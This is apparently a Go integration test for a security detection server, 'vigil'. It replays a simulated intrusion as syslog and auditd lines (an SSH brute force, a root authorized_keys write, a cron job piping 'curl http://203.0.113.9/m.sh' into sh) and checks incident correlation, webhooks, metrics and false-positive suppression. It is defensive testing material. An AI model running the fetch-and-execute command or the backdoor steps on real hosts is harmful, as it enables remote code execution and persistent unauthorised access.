package server_test

import (
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/vigilsec/vigil/internal/auth"
	"github.com/vigilsec/vigil/internal/notify"
	"github.com/vigilsec/vigil/internal/store/sqlite"
)

// The attack of the scenario, on host web-1 from 203.0.113.5: an SSH brute force and a
// successful login (syslog lines), root's authorized_keys written (auditd records), and
// a crontab job that pipes a download into a shell (cron line). The lines are the
// positive cases of the built-in rules' tests.
const (
	scenarioSSH = `Nov 28 10:00:01 web-1 sshd[2100]: Failed password for root from 203.0.113.5 port 52100 ssh2
Nov 28 10:00:08 web-1 sshd[2101]: Failed password for root from 203.0.113.5 port 52102 ssh2
Nov 28 10:00:15 web-1 sshd[2102]: Failed password for root from 203.0.113.5 port 52104 ssh2
Nov 28 10:00:22 web-1 sshd[2103]: Failed password for root from 203.0.113.5 port 52106 ssh2
Nov 28 10:00:29 web-1 sshd[2104]: Failed password for root from 203.0.113.5 port 52108 ssh2
Nov 28 10:00:36 web-1 sshd[2105]: Failed password for root from 203.0.113.5 port 52110 ssh2
Nov 28 10:00:43 web-1 sshd[2106]: Failed password for root from 203.0.113.5 port 52112 ssh2
Nov 28 10:00:50 web-1 sshd[2107]: Failed password for root from 203.0.113.5 port 52114 ssh2
Nov 28 10:00:57 web-1 sshd[2108]: Failed password for root from 203.0.113.5 port 52116 ssh2
Nov 28 10:01:04 web-1 sshd[2109]: Failed password for root from 203.0.113.5 port 52118 ssh2
Nov 28 10:01:11 web-1 sshd[2110]: Failed password for root from 203.0.113.5 port 52120 ssh2
Nov 28 10:01:18 web-1 sshd[2111]: Failed password for root from 203.0.113.5 port 52122 ssh2
Nov 28 10:02:10 web-1 sshd[2300]: Accepted password for root from 203.0.113.5 port 53000 ssh2
`
	scenarioKeys = `type=SYSCALL msg=audit(1795860041.000:3001): arch=c000003e syscall=257 success=yes exit=3 a0=ffffff9c a1=55d0c0a3c410 a2=241 a3=0 items=2 ppid=3290 pid=3512 auid=0 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=3 comm="bash" exe="/usr/bin/bash" subj=unconfined key="ssh_keys"
type=CWD msg=audit(1795860041.000:3001): cwd="/root"
type=PATH msg=audit(1795860041.000:3001): item=0 name=".ssh/" inode=524290 dev=fd:01 mode=040755 ouid=0 ogid=0 rdev=00:00 nametype=PARENT cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0
type=PATH msg=audit(1795860041.000:3001): item=1 name=".ssh/authorized_keys" inode=524301 dev=fd:01 mode=0100644 ouid=0 ogid=0 rdev=00:00 nametype=CREATE cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0
type=PROCTITLE msg=audit(1795860041.000:3001): proctitle=2D62617368
type=EOE msg=audit(1795860041.000:3001): 
`
	scenarioCron = "Nov 28 10:04:00 web-1 CRON[4004]: (root) CMD (curl -fsSL http://203.0.113.9/m.sh | sh)\n"
	// The same job an hour later: after the false-positive exception it must raise
	// nothing.
	scenarioCronAgain = "Nov 28 10:04:30 web-1 CRON[5004]: (root) CMD (curl -fsSL http://203.0.113.9/m.sh | sh)\n"
)

// scenarioStart is the time the scenario's lines were written at (10:00:00); retime
// moves them to start at base, so that they are recent when the test runs: a live
// server's correlation windows close a few minutes behind the wall clock, and events
// older than that no longer count.
var scenarioStart = time.Date(2026, 11, 28, 10, 0, 0, 0, time.UTC)

var (
	syslogStamp = regexp.MustCompile(`(?m)^Nov 28 (\d\d:\d\d:\d\d)`)
	auditStamp  = regexp.MustCompile(`audit\((\d+)\.`)
)

func retime(text string, base time.Time) string {
	shift := base.Sub(scenarioStart)
	text = syslogStamp.ReplaceAllStringFunc(text, func(m string) string {
		t, _ := time.Parse("Jan _2 15:04:05 2006", m+" 2026")
		return t.Add(shift).Format(time.Stamp)
	})
	return auditStamp.ReplaceAllStringFunc(text, func(m string) string {
		sec, _ := strconv.ParseInt(auditStamp.FindStringSubmatch(m)[1], 10, 64)
		return fmt.Sprintf("audit(%d.", time.Unix(sec, 0).Add(shift).Unix())
	})
}

// client calls the API of a running server with a bearer token.
type client struct {
	t     *testing.T
	url   string
	token string
}

func (c client) call(method, path, body string, out any, contentType ...string) int {
	c.t.Helper()
	hdr := []string{"Authorization", "Bearer " + c.token}
	if len(contentType) > 0 {
		hdr = append(hdr, "Content-Type", contentType[0])
	}
	r := do(c.t, http.DefaultClient, method, c.url+strings.TrimPrefix(path, "/"), body, hdr...)
	if out != nil && r.status < 300 {
		if err := json.Unmarshal(r.body, out); err != nil {
			c.t.Fatalf("%s %s: %v in %s", method, path, err, r.body)
		}
	}
	if r.status >= 300 {
		c.t.Logf("%s %s = %d %s", method, path, r.status, r.body)
	}
	return r.status
}

func (c client) ingest(query, text string) {
	c.t.Helper()
	var res struct{ Accepted, Rejected int }
	if st := c.call("POST", "/api/v1/ingest"+query, text, &res, "text/plain"); st != http.StatusOK || res.Rejected != 0 {
		c.t.Fatalf("ingest%s = %d %+v", query, st, res)
	}
}

// issue makes an API token of role in the data directory, as `vigil token create`
// does while the server runs.
func issue(t *testing.T, dir, role string) string {
	t.Helper()
	st, err := sqlite.Open(t.Context(), dir)
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	_, secret, err := auth.NewService(st, time.Now, auth.DefaultPolicy, quiet).CreateToken(t.Context(), "test", "t-"+role, role, 0)
	if err != nil {
		t.Fatal(err)
	}
	return secret
}

type incidentView struct {
	ID         int64
	Title      string
	Status     string
	Severity   string
	AlertCount int `json:"alert_count"`
	Tactics    []string
	Entities   []struct{ Kind, Value string }
	Alerts     []struct {
		ID      int64
		RuleID  string `json:"rule_id"`
		Tactics []string
		Status  string
		Count   int
	}
	Tasks []struct {
		ID        int64
		Technique string
		Phase     string
		Status    string
	}
	Metrics struct {
		TimeToDetect      *float64 `json:"time_to_detect"`
		TimeToAcknowledge *float64 `json:"time_to_acknowledge"`
	}
}

const (
	ruleBruteThenLogin = "ebaeacae-f0d0-4ea2-9bf0-123c75cc5d6f"
	ruleAuthorizedKeys = "5b3cb5e8-62ad-4e68-b8eb-db9c96f3b457"
	ruleCronDownload   = "3882e565-54ce-4a30-89de-517210bd99c8"
)

// TestIncidentScenario replays an attack through a real server: one incident with the
// alerts in tactic order, tasks from the checklists, metrics, and a false-positive
// exception that suppresses the next identical event.
func TestIncidentScenario(t *testing.T) {
	dir := t.TempDir()
	// A webhook receiver that checks the signature of what it gets.
	var mu sync.Mutex
	var got []notify.Message
	hook := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		sig := notify.SignWebhook("hook-secret", r.Header.Get(notify.HeaderTimestamp), body)
		if r.Header.Get(notify.HeaderSignature) != "sha256="+sig {
			http.Error(w, "bad signature", http.StatusUnauthorized)
			return
		}
		var m notify.Message
		json.Unmarshal(body, &m)
		mu.Lock()
		got = append(got, m)
		mu.Unlock()
	}))
	defer hook.Close()
	cfg := testConfig(dir)
	cfg.Notify = notify.Config{
		Channels: []notify.Channel{{Name: "soc", Type: notify.TypeWebhook, URL: hook.URL, Secret: "hook-secret"}},
		Routes:   []notify.Route{{Name: "high and up", Channels: []string{"soc"}, MinSeverity: "high"}},
	}
	inst := start(t, cfg)
	in := client{t, inst.url, issue(t, dir, auth.RoleIngest)}
	admin := client{t, inst.url, issue(t, dir, auth.RoleAdmin)}

	base := time.Now().UTC().Add(-5 * time.Minute).Truncate(time.Second)
	in.ingest("", retime(scenarioSSH, base))
	in.ingest("?host=web-1&type=auditd", retime(scenarioKeys, base))
	in.ingest("", retime(scenarioCron, base))

	var list struct{ Items []incidentView }
	if st := admin.call("GET", "/api/v1/incidents", "", &list); st != http.StatusOK {
		t.Fatalf("GET /api/v1/incidents = %d", st)
	}
	if len(list.Items) != 1 {
		t.Fatalf("incidents = %d, want exactly one: %+v", len(list.Items), list.Items)
	}
	id := list.Items[0].ID
	var v incidentView
	admin.call("GET", fmt.Sprintf("/api/v1/incidents/%d", id), "", &v)

	rules := map[string]bool{}
	for _, a := range v.Alerts {
		rules[a.RuleID] = true
	}
	var cronAlert int64
	for _, a := range v.Alerts {
		if a.RuleID == ruleCronDownload {
			cronAlert = a.ID
		}
	}
	if !rules[ruleBruteThenLogin] || !rules[ruleAuthorizedKeys] || cronAlert == 0 {
		t.Fatalf("the incident lacks the brute force, authorized_keys or cron alert: %+v", v.Alerts)
	}
	// Alerts in tactic order: initial access first, the backdoors (impact) last.
	order := map[string]int{"IA": 1, "EX": 2, "PS": 3, "PR": 4, "DE": 5, "CA": 6, "DI": 7, "LM": 8, "IM": 9}
	last := 0
	for _, a := range v.Alerts {
		if len(a.Tactics) == 0 {
			continue
		}
		o := order[a.Tactics[0]]
		if o < last {
			t.Errorf("alerts not in tactic order: %+v", v.Alerts)
			break
		}
		last = o
	}
	if v.Alerts[0].RuleID != ruleBruteThenLogin && v.Alerts[0].Tactics[0] != "IA" {
		t.Errorf("first alert = %+v, want initial access", v.Alerts[0])
	}
	if v.Severity != "critical" || v.Status != "new" {
		t.Errorf("severity %s status %s; want critical (high alert, backdoor reached), new", v.Severity, v.Status)
	}
	techniques := map[string]bool{}
	for _, k := range v.Tasks {
		techniques[k.Technique] = true
	}
	if !techniques["CS-IA-03"] || !techniques["CS-IM-04"] {
		t.Errorf("tasks come from techniques %v; want CS-IA-03 and CS-IM-04 among them", techniques)
	}
	if v.Metrics.TimeToDetect == nil || *v.Metrics.TimeToDetect <= 0 {
		t.Errorf("time to detect = %v", v.Metrics.TimeToDetect)
	}

	// The creation was notified, signed, with a link to the incident.
	var created *notify.Message
	for deadline := time.Now().Add(time.Minute); created == nil && time.Now().Before(deadline); time.Sleep(20 * time.Millisecond) {
		mu.Lock()
		for i := range got {
			if got[i].Kind == "incident.created" {
				created = &got[i]
			}
		}
		mu.Unlock()
	}
	if created == nil {
		var ds any
		admin.call("GET", "/api/v1/notify/deliveries", "", &ds)
		t.Fatalf("no incident.created notification arrived; deliveries: %v", ds)
	}
	if created.IncidentID != id || !strings.HasSuffix(created.URL, fmt.Sprintf("#/incidents/%d", id)) || !slices.Contains(created.Hosts, "web-1") {
		t.Errorf("notification = %+v", created)
	}
	var ds struct {
		Items []struct {
			Channel string
			OK      bool
		}
	}
	if admin.call("GET", "/api/v1/notify/deliveries", "", &ds); len(ds.Items) == 0 || !ds.Items[len(ds.Items)-1].OK || ds.Items[0].Channel != "soc" {
		t.Errorf("deliveries = %+v", ds.Items)
	}

	// A test send goes to the channel and into the delivery log.
	var sent struct{ OK bool }
	if st := admin.call("POST", "/api/v1/notify/test", `{"channel":"soc"}`, &sent); st != http.StatusOK || !sent.OK {
		t.Errorf("test send = %d %+v", st, sent)
	}
	var log struct{ Items []struct{ Kind string } }
	if admin.call("GET", "/api/v1/notify/deliveries", "", &log); len(log.Items) == 0 || log.Items[0].Kind != notify.KindTest {
		t.Errorf("the test send is not the newest delivery: %+v", log.Items)
	}
	var channels struct {
		Channels []struct {
			Name, Secret string
			HasSecret    bool `json:"has_secret"`
		}
	}
	if admin.call("GET", "/api/v1/notify", "", &channels); len(channels.Channels) != 1 || channels.Channels[0].Secret != "" || !channels.Channels[0].HasSecret {
		t.Errorf("channels = %+v; want the secret hidden and has_secret", channels.Channels)
	}

	// Acknowledging by moving to triage computes the time to acknowledge.
	if st := admin.call("POST", fmt.Sprintf("/api/v1/incidents/%d/status", id), `{"status":"triage"}`, &v); st != http.StatusOK {
		t.Fatalf("triage = %d", st)
	}
	admin.call("GET", fmt.Sprintf("/api/v1/incidents/%d", id), "", &v)
	if v.Metrics.TimeToAcknowledge == nil {
		t.Error("no time to acknowledge after triage")
	}
	var sum struct {
		Count       int
		BySeverity  map[string]int `json:"by_severity"`
		ByTechnique map[string]int `json:"by_technique"`
	}
	if st := admin.call("GET", "/api/v1/metrics/incidents", "", &sum); st != http.StatusOK || sum.Count != 1 || sum.BySeverity["critical"] != 1 || sum.ByTechnique["CS-IM-04"] != 1 {
		t.Errorf("metrics = %d %+v", st, sum)
	}

	// The matrix lights up where the attack went, also as a Navigator layer.
	var act struct {
		Techniques []struct {
			Technique string
			Raised    int
		}
	}
	if st := admin.call("GET", "/api/v1/matrix/activity", "", &act); st != http.StatusOK {
		t.Fatalf("matrix activity = %d", st)
	}
	lit := map[string]bool{}
	for _, a := range act.Techniques {
		lit[a.Technique] = a.Raised > 0
	}
	if !lit["CS-IA-03"] || !lit["CS-IM-04"] {
		t.Errorf("matrix activity = %+v; want CS-IA-03 and CS-IM-04", act.Techniques)
	}
	var layer struct {
		Techniques []struct {
			TechniqueID string
			Score       int
		}
	}
	admin.call("GET", "/api/v1/matrix/navigator/activity", "", &layer)
	scored := map[string]int{}
	for _, x := range layer.Techniques {
		scored[x.TechniqueID] = x.Score
	}
	if scored["T1110"] == 0 && scored["T1110.001"] == 0 {
		t.Errorf("activity layer = %+v; want the brute force (T1110) scored", layer.Techniques)
	}

	// The cron job is the admins' own: an exception on host and user suppresses the next
	// identical job.
	body := `{"fields":{"host.name":"web-1","user.name":"root"},"reason":"the vendor's updater runs this way"}`
	if st := admin.call("POST", fmt.Sprintf("/api/v1/alerts/%d/exception", cronAlert), body, nil); st != http.StatusCreated {
		t.Fatalf("exception = %d", st)
	}
	in.ingest("", retime(scenarioCronAgain, base))
	var alert struct {
		Count  int
		Status string
	}
	admin.call("GET", fmt.Sprintf("/api/v1/alerts/%d", cronAlert), "", &alert)
	if alert.Count != 1 || alert.Status != "false_positive" {
		t.Errorf("cron alert after the exception = %+v, want count 1, false_positive", alert)
	}
	var excs struct {
		Items []struct{ Suppressed int }
	}
	admin.call("GET", "/api/v1/exceptions", "", &excs)
	if len(excs.Items) != 1 || excs.Items[0].Suppressed != 1 {
		t.Errorf("exceptions = %+v, want one that suppressed one event", excs.Items)
	}
	var queue struct{ Items []json.RawMessage }
	admin.call("GET", "/api/v1/alerts?rule="+ruleCronDownload, "", &queue)
	if len(queue.Items) != 1 {
		t.Errorf("alerts of the cron rule = %d, want the one marked false positive", len(queue.Items))
	}
	inst.stopped(t)
}
